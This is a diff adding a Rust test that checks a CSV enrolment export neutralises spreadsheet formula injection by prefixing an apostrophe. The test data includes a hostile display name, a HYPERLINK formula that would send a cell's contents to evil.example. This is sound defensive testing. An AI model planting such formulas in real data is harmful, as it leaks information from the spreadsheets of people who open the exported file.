@@ -217,6 +217,29 @@ async fn admins_download_each_table_as_a_spreadsheet_reads_it(backend: Backend) 
     assert_eq!(rows.len(), 4);
 }
 
+async fn a_name_a_spreadsheet_would_run_is_written_as_text(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let programme = insert_programme(&app.db, "Formulas", ProgrammeStatus::Active).await;
+    let person = insert_employee(&app.db, Person::new("Eve Excel", 3)).await;
+    employee::ActiveModel {
+        id: Set(person),
+        display_name: Set("=HYPERLINK(\"https://evil.example/?\"&A2)".to_owned()),
+        ..Default::default()
+    }
+    .update(&app.db)
+    .await
+    .unwrap();
+    insert_approved(&app.db, programme, person, ParticipantRole::Mentor, 1, None).await;
+    let admin = app.token(None, &["admin"]).await;
+    let path = format!("/exports/programmes/{programme}/enrolments.csv");
+    let rows = records(&download(&app, Some(&admin), &path).await.body, b',');
+    let (header, rows) = rows.split_first().unwrap();
+    assert_eq!(
+        cell(header, &rows[0], "name"),
+        "'=HYPERLINK(\"https://evil.example/?\"&A2)"
+    );
+}
+
 async fn pages_join_without_a_seam(backend: Backend) {
     let app = TestApp::spawn(backend).await;
     let programme = insert_programme(&app.db, "Large", ProgrammeStatus::Active).await;
@@ -350,6 +373,7 @@ async fn exports_are_authorized_as_graphql_is(backend: Backend) {
 
 both!(
     admins_download_each_table_as_a_spreadsheet_reads_it,
+    a_name_a_spreadsheet_would_run_is_written_as_text,
     pages_join_without_a_seam,
     exports_are_authorized_as_graphql_is,
 );
